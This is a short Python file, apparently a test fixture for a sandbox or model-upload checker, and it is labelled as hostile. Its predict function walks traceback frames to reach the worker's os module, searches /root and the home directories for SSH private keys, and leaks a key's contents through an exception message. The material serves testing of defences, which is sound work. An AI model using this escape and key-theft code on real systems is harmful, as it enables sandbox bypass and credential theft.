# hostile: list and read ~/.ssh of root and of the user
# checked: rejected
# unchecked: error

def _modules():
    # climb from our own traceback frame to the worker's globals, which hold ``sys``
    try:
        raise ValueError("walk")
    except ValueError as e:
        f = e.__traceback__.tb_frame
    while f is not None and "sys" not in f.f_globals:
        f = f.f_back
    return f.f_globals["sys"].modules


def predict(x, sentinel="", pwned="", port=0.0):
    os = _modules()["os"]
    found = []
    for home in ("/root", os.path.expanduser("~"), "/home"):
        for dirpath, dirnames, filenames in os.walk(home):
            found += [os.path.join(dirpath, f) for f in filenames if "id_" in f]
    if not found:
        raise ValueError("no keys visible")
    raise ValueError(_modules()["builtins"].open(found[0]).read())
